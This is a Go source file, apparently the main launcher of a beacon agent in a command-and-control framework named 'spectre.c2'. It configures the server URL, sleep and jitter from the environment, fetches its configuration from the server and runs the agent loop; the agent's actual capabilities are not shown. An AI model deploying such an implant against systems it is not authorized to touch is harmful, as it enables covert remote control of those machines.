package main

import (
	"context"
	"log"
	"log/slog"
	"os"
	"os/signal"
	"strconv"
	"syscall"

	"spectre.c2/internal/agent"
	"spectre.c2/internal/core/domain"
	"spectre.c2/internal/core/logger"
)

func main() {
	logger.Init(slog.LevelInfo, "text")

	serverURL := os.Getenv("BEACON_SERVER")
	if serverURL == "" {
		log.Fatal("BEACON_SERVER environment variable is required")
	}
	verifySSL := envBool("BEACON_VERIFY_SSL", true)

	cfg := domain.AgentConfig{
		ServerURL:     serverURL,
		SleepInterval: envInt("BEACON_SLEEP", 0),
		JitterPercent: envInt("BEACON_JITTER", -1),
		VerifySSL:     verifySSL,
	}

	// When no local overrides are set, pull the published config from the
	// server so packaged installs only need a URL.
	if cfg.SleepInterval == 0 && cfg.JitterPercent == -1 {
		fetched, err := agent.FetchConfig(context.Background(), serverURL, verifySSL)
		if err != nil {
			logger.Warn("config fetch failed, using defaults", "error", err)
		} else {
			fetched.ServerURL = serverURL
			fetched.VerifySSL = verifySSL
			cfg = fetched
		}
	}

	a, err := agent.New(cfg, os.Getenv("BEACON_STATE_DIR"))
	if err != nil {
		log.Fatalf("failed to initialize beacon: %v", err)
	}

	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()

	sigCh := make(chan os.Signal, 1)
	signal.Notify(sigCh, syscall.SIGINT, syscall.SIGTERM)

	go func() {
		<-sigCh
		logger.Info("shutting down beacon")
		cancel()
	}()

	if err := a.Run(ctx); err != nil {
		log.Fatalf("beacon error: %v", err)
	}
}

func envInt(key string, fallback int) int {
	if v := os.Getenv(key); v != "" {
		if n, err := strconv.Atoi(v); err == nil {
			return n
		}
	}
	return fallback
}

func envBool(key string, fallback bool) bool {
	if v := os.Getenv(key); v != "" {
		if b, err := strconv.ParseBool(v); err == nil {
			return b
		}
	}
	return fallback
}
